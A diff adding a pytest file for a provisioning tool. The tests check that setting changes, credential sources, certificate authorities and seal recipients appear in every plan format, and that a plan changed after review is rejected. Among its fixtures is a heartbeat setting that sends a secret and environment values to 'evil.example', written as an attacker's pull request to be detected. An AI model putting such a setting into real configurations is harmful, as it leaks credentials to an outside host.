@@ -1,0 +1,281 @@
+"""What was reviewed is what happens: whatever steers a run stands in every format of its plan, and is compared."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator, Mapping
+from contextlib import chdir
+from dataclasses import fields, replace
+from pathlib import Path
+from typing import Any, Final
+
+import pytest
+
+import provisioner
+from provisioner.errors import CommandInvalid, PlanStale, Refused
+from provisioner.project.applying import Bounds
+from provisioner.render import documents, html, markdown, text
+from provisioner.settings import ParentSettings, Settings, loading, steering
+from provisioner.state.sealing import new_identity
+from tests.cli.steps import made
+from tests.conftest import NewProject, Project, SandboxProcess, StartSandbox
+from tests.project.opened import opened
+
+LINES: Final = {
+    "proxy": ("proxy: http://ada:SECRET@127.0.0.1:9", "Sends through the proxy http://***@127.0.0.1:9."),
+    "ca_file": ("ca_file: ci/roots.pem", "Trusts the authorities in ci/roots.pem (SHA-256 "),
+    "heartbeat_url": (
+        "heartbeat_url: https://evil.example/SECRET/${env:OTHER}",
+        "Calls https://evil.example/***/${env:OTHER} when a run ends.",
+    ),
+    "identity_file": ("identity_file: ci/id.txt", "Opens what is sealed with the identity in ci/id.txt."),
+    "retry_on_503": ("retry_on_503: true", "Tries a create again after HTTP 503: that makes a second account"),
+    "timeout": ("timeout: 0.3", "Sets timeout to 0.3, not 30."),
+    "attempts": ("attempts: 99", "Sets attempts to 99, not 5."),
+    "retry_budget": ("retry_budget: 0", "Sets retry_budget to 0, not 60."),
+    "retry_after_cap": ("retry_after_cap: 1", "Sets retry_after_cap to 1, not 120."),
+    "keep_going": ("keep_going: true", "Goes on after an outcome that nobody can know."),
+    "max_creates": ("max_creates: 7", "Sets max_creates to 7."),
+    "max_updates": ("max_updates: 7", "Sets max_updates to 7."),
+    "metrics_file": ("metrics_file: here.prom", "Writes metrics to here.prom."),
+}
+"""A line that a pull request adds to the settings, and what a reviewer reads at the head of the plan."""
+
+
+@pytest.fixture
+def mine(project: NewProject) -> Iterator[Project]:
+    """A project that has nothing yet; nobody answers at its address, and nobody has to."""
+    fresh = project(SandboxProcess("http://127.0.0.1:9/v1/public", Path("none")), ("paris",))
+    (fresh.folder / "ci").mkdir()
+    (fresh.folder / "ci" / "roots.pem").write_text("roots")
+    with chdir(fresh.folder):
+        yield fresh
+
+
+@pytest.fixture
+def applied(sandbox: StartSandbox, project: NewProject) -> Project:
+    """A project with two accounts that exist."""
+    return made(sandbox(), project)
+
+
+def at(mine: Project, **options: Any) -> provisioner.Project:  # noqa: ANN401  # those of Project.open
+    """Open the project as a command does that is run in its folder."""
+    return opened(replace(mine), **{"folder": Path(), **options})
+
+
+def configured(mine: Project, *lines: str) -> None:
+    (mine.folder / "provisioner.yaml").write_text("".join(f"{line}\n" for line in lines))
+
+
+def faces(this: provisioner.Project) -> dict[str, str]:
+    """Return the plan of a project in every format."""
+    plans = this.plan()
+    digest = this.digest(plans)
+    shown = [*text.head(plans.plans), *(line for plan in plans.plans for line in text.plan(plan)), text.digest(digest)]
+    return {
+        "text": "\n".join(line.text for line in shown),
+        "markdown": markdown.plans(plans.plans, digest),
+        "html": html.page(plans.plans, digest),
+        "json": json.dumps(documents.plans(plans.plans)),
+    }
+
+
+def stale(mine: Project, saved: Path, words: str, **options: object) -> None:
+    with pytest.raises(PlanStale) as raised:
+        at(mine, **options).reviewed(saved)
+    assert words in raised.value.message
+    assert "SECRET" not in raised.value.message
+
+
+# ── Settings ─────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.usefixtures("mine")
+def test_every_setting_that_there_is_stands_in_the_plan_or_is_known_not_to_matter() -> None:
+    usual = loading.load(None, {}, {}, folder=Path("nowhere"))
+    assert () == steering.steering(usual)
+    for each in fields(Settings):
+        other = replace(usual, **{each.name: "ci/roots.pem"})
+        assert (each.name in [found.name for found in steering.steering(other)]) == (
+            # Each parent has its own state, login, key and slots, which stand with its plan.
+            each.name not in {"state", "parents", "file", "stronger", "lock_timeout"}
+        ), each.name
+    assert {each.name for each in fields(ParentSettings)} == {"name", "api_login", "api_key", "limit", "reserved"}
+
+
+@pytest.mark.parametrize("name", LINES)
+def test_no_setting_changes_between_review_and_apply(mine: Project, name: str) -> None:
+    line, words = LINES[name]
+    usual, saved = at(mine), mine.root / "plan.json"
+    digest = usual.save_plan(usual.plan(), saved)
+    configured(mine, line)
+    shown = faces(at(mine))
+    for face in ("text", "markdown"):
+        assert words in shown[face]
+    assert words.partition(" ")[2].replace("&", "&amp;").rstrip(".") in shown["html"]
+    assert name in [each["name"] for each in json.loads(shown["json"])["settings"]]
+    assert at(mine).digest(at(mine).plan()) != digest
+    stale(mine, saved, f"the setting {name} is ")
+    assert not any("SECRET" in face for face in shown.values())
+    # And the other way: what was reviewed with it is not applied without.
+    at(mine).save_plan(at(mine).plan(), saved)
+    at(mine).reviewed(saved)
+    configured(mine)
+    stale(mine, saved, f"the setting {name} is not set, and was ")
+
+
+def test_the_authorities_are_compared_by_what_they_are(mine: Project) -> None:
+    saved = mine.root / "plan.json"
+    configured(mine, "ca_file: ci/roots.pem")
+    at(mine).save_plan(at(mine).plan(), saved)
+    (mine.folder / "ci" / "roots.pem").rename(mine.folder / "ci" / "moved.pem")
+    configured(mine, "ca_file: ci/moved.pem")
+    at(mine).reviewed(saved)
+    (mine.folder / "ci" / "moved.pem").write_text("others")
+    stale(mine, saved, "the setting ca_file is ci/moved.pem, of the SHA-256 ")
+
+
+def test_whoever_applies_hears_of_it_at_their_own_address_and_at_no_other(mine: Project) -> None:
+    saved = mine.root / "plan.json"
+    at(mine).save_plan(at(mine).plan(), saved)
+    configured(mine, "heartbeat_url: https://evil.example/${env:OTHER}")
+    own = {**mine.environ, "PROVISIONER_HEARTBEAT_URL": "https://own.example/token"}
+    at(mine, environ=own).reviewed(saved)
+    stale(mine, saved, "the setting heartbeat_url is https://evil.example/***/${env:OTHER}, and was not set")
+
+
+@pytest.mark.parametrize(
+    ("line", "words"),
+    [
+        ("parents: {default: {api_key: '${env:OTHER_KEY}'}}", "key from OTHER_KEY"),
+        ("parents: {default: {api_login: '${file:ci/login}'}}", "login from the file ci/login"),
+        ("state: elsewhere/{parent}.json", "no state yet at elsewhere/default.json: this begins one"),
+        ("limit: 99", "of 99 slots"),
+        ("reserved: 9", "9 reserved"),
+    ],
+)
+def test_a_parent_keeps_the_credentials_slots_and_state_that_were_reviewed(
+    mine: Project, line: str, words: str
+) -> None:
+    saved = mine.root / "plan.json"
+    at(mine).save_plan(at(mine).plan(), saved)
+    configured(mine, line)
+    assert ["text", "markdown", "html"] == [face for face, shown in faces(at(mine)).items() if words in shown]
+    stale(mine, saved, " parent default ")
+
+
+def test_every_format_says_where_a_plan_goes_and_that_it_begins_a_state(mine: Project) -> None:
+    shown = faces(at(mine))
+    place = "at http://127.0.0.1:9/v1/public, login from OCTOPUSH_API_LOGIN, no state yet at state/default.json"
+    for face in ("text", "markdown", "html"):
+        assert f"{place}: this begins one" in shown[face]
+    document = json.loads(shown["json"])
+    (plan,) = document["plans"]
+    assert ("http://127.0.0.1:9/v1/public", "${env:OCTOPUSH_API_LOGIN}", "state/default.json", True) == (
+        document["endpoint"], plan["login"], plan["state"], plan["begins"],
+    )  # fmt: skip
+
+
+def test_every_format_says_what_is_read_and_to_whom_it_goes(mine: Project) -> None:
+    shown = faces(at(mine))
+    for face in ("text", "markdown", "html"):
+        assert shown[face].count("reads HOOK_TOKEN for hooks.example.com") == 2, "at its head, and with the account"
+    (plan,) = json.loads(shown["json"])["plans"]
+    read = {"kind": "env", "name": "HOOK_TOKEN", "to": "hooks.example.com"}
+    assert [read | {"accounts": ["paris"]}] == plan["placeholders"]
+    path = "callbacks.callback_url_for_deliveries"
+    assert [read | {"path": path}] == plan["changes"][0]["placeholders"]
+
+
+# ── The digest ───────────────────────────────────────────────────────────────
+
+
+def swapped(mine: Project, saved: Path) -> None:
+    other = mine.root / "other.yaml"
+    other.write_text("version: 1\naccounts: [{name: mallory, first_name: Never, last_name: Reviewed}]\n")
+    at(mine).save_plan(at(mine).plan([other]), saved)
+
+
+def edited(mine: Project, saved: Path) -> None:
+    del mine
+    document = json.loads(saved.read_text())
+    document["plans"][0]["slots"]["limit"] = 21
+    del document["digest"]
+    saved.write_text(json.dumps({**document, "digest": documents.digest(document)}))
+
+
+@pytest.mark.parametrize("replaced", [swapped, edited])
+def test_a_plan_that_was_swapped_is_not_applied(mine: Project, replaced: Callable[[Project, Path], None]) -> None:
+    saved = mine.root / "plan.json"
+    digest = at(mine).save_plan(at(mine).plan(), saved)
+    at(mine).reviewed(saved, digest=digest)
+    at(mine).reviewed(saved, digest=digest.upper())
+    replaced(mine, saved)
+    with pytest.raises(PlanStale, match="not the one that was reviewed"):
+        at(mine).reviewed(saved, digest=digest)
+
+
+@pytest.mark.parametrize("digest", ["", "0" * 63, "0" * 16, "g" * 64, "0" * 65, f"{'0' * 64}\n"])
+def test_a_digest_is_whole_or_none(mine: Project, digest: str) -> None:
+    saved = mine.root / "plan.json"
+    at(mine).save_plan(at(mine).plan(), saved)
+    with pytest.raises(CommandInvalid, match="no digest of a plan"):
+        at(mine).reviewed(saved, digest=digest)
+
+
+def test_a_plan_that_an_earlier_version_saved_is_stale(mine: Project) -> None:
+    saved = mine.root / "plan.json"
+    at(mine).save_plan(at(mine).plan(), saved)
+    document = json.loads(saved.read_text())
+    for name in ("digest", "settings"):
+        del document[name]
+    saved.write_text(json.dumps({**document, "digest": documents.digest(document)}))
+    stale(mine, saved, "was saved by an earlier version")
+
+
+# ── Recipients ───────────────────────────────────────────────────────────────
+
+
+def for_others(mine: Project, recipients: str) -> dict[str, Any]:
+    return {"environ": {**mine.environ, "PROVISIONER_RECIPIENTS": recipients}}
+
+
+def more(mine: Project) -> None:
+    path = mine.folder / "manifests" / "accounts.yaml"
+    path.write_text(f"{path.read_text()}  - {{name: oslo, first_name: Edvard, last_name: Munch}}\n")
+
+
+def test_nobody_takes_the_owners_place_among_the_recipients_unseen(applied: Project) -> None:
+    owner, stranger = applied.environ["PROVISIONER_RECIPIENTS"], new_identity()[1]
+    more(applied)
+    before = applied.state_path.read_bytes()
+    this = opened(applied, **for_others(applied, stranger))
+    shown = faces(this)
+    for face in ("text", "markdown", "html"):
+        assert f"seals to {stranger}, whom the state does not name" in shown[face]
+        assert f"does not seal to {owner}, whom only the state names" in shown[face]
+        assert "seals to none of those whom the state names" in shown[face]
+    signs: Mapping[str, str] = {
+        each["recipient"]: each["change"] for each in json.loads(shown["json"])["plans"][0]["recipients"]
+    }
+    assert {stranger: "added", owner: "removed"} == signs
+    with pytest.raises(Refused, match="none of those who can open the state"):
+        this.apply(this.plan())
+    assert before == applied.state_path.read_bytes()
+    # Who says so, may; and one who stays is enough.
+    both = opened(applied, **for_others(applied, f"{owner} {stranger}"))
+    assert 0 == both.apply(both.plan()).exit_code
+    path = applied.folder / "manifests" / "accounts.yaml"
+    path.write_text(path.read_text().replace("name: oslo", "name: bergen"))
+    assert 0 == this.apply(this.plan(), bounds=Bounds(new_recipients=True)).exit_code
+
+
+def test_a_recipient_that_only_the_state_names_is_unknown_to_a_rekey(applied: Project) -> None:
+    stranger, colleague = new_identity()[1], new_identity()[1]
+    document = json.loads(applied.state_path.read_text())
+    document["recipients"].append(stranger)
+    applied.state_path.write_text(json.dumps(document))
+    opened(applied).rekey(add=[colleague], approve=lambda these: ("?", stranger) in these[0].changes)
+    state = applied.state()
+    assert state is not None
+    assert {applied.environ["PROVISIONER_RECIPIENTS"], colleague} == {*state.recipients}
